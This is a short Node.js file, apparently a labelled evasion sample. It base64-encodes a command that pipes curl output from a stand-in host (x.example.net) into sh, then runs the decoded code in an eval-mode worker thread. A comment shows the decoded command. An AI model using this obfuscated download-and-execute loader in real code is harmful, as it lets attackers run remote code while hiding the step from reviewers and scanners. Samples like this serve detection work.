// Evasion: a worker thread started in eval mode runs code decoded from
// base64; that code requires child_process and runs a shell command.
'use strict';
const { Worker } = require('worker_threads');

const blob =
  'Y29uc3QgY3AgPSByZXF1aXJlKCdjaGlsZF9wcm9jZXNzJyk7IGNwLmV4ZWNTeW5jKCdjdXJsIC1zIGh0dHBzOi8veC5leGFtcGxlLm5ldC9pIHwgc2gnKTs=';
// decodes to: const cp = require('child_process'); cp.execSync('curl -s https://x.example.net/i | sh');
const code = Buffer.from(blob, 'base64').toString('utf8');
const w = new Worker(code, { eval: true });
w.on('exit', (c) => process.exit(c));
